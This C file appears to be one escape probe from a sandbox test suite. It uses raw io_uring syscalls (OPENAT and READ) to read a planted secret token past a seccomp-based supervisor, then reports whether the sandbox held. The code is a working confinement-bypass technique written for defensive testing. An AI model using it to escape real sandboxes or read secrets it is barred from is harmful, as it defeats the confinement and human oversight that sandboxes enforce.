/* esc_io_uring — open and read the secret through io_uring, where the kernel
 * performs openat/read from its own worker without any syscall seccomp sees.
 *
 * Attacks rule 8 (io_uring is refused): an IORING_OP_OPENAT resolves the path
 * against the process's real root, skipping the supervisor entirely.  Raw
 * syscalls and hand-mapped rings, no liburing.
 *
 * usage: ESC_TOKEN=... esc_io_uring /var/tmp/moat-sec.XXXXXX/secret
 */
#include "esc.h"
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array;
	unsigned *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r)
{
	struct io_uring_params p = {0};
	r->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return -errno;
	size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = mmap(NULL, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		return -errno;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submit one sqe, wait for its completion, return cqe->res (or -errno of
 * io_uring_enter itself). */
static int ring_do(struct ring *r, const struct io_uring_sqe *in)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
	r->sqes[idx] = *in;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	unsigned head = *r->cq_head;
	if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	int res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

int main(int argc, char **argv)
{
	const char *secret = esc_secret_arg(argc, argv);
	struct ring r;

	int e = ring_setup(&r);
	if (e < 0) {
		esc_held("io_uring_setup: %s", esc_errname(-e));
		return esc_finish();
	}
	fprintf(stderr, "# io_uring_setup gave fd %d\n", r.fd);

	struct io_uring_sqe sqe = {0};
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)secret;
	sqe.open_flags = O_RDONLY;
	int fd = ring_do(&r, &sqe);
	if (fd < 0) {
		esc_held("IORING_OP_OPENAT: %s", esc_errname(-fd));
		return esc_finish();
	}

	char buf[4096] = {0};
	memset(&sqe, 0, sizeof sqe);
	sqe.opcode = IORING_OP_READ;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = sizeof buf - 1;
	sqe.off = 0;
	int n = ring_do(&r, &sqe);
	if (n > 0 && esc_is_token(buf, (size_t)n))
		esc_won("IORING_OP_OPENAT+READ read the token");
	else
		esc_held("IORING_OP_READ: %s", n < 0 ? esc_errname(-n) : "not the secret");
	return esc_finish();
}
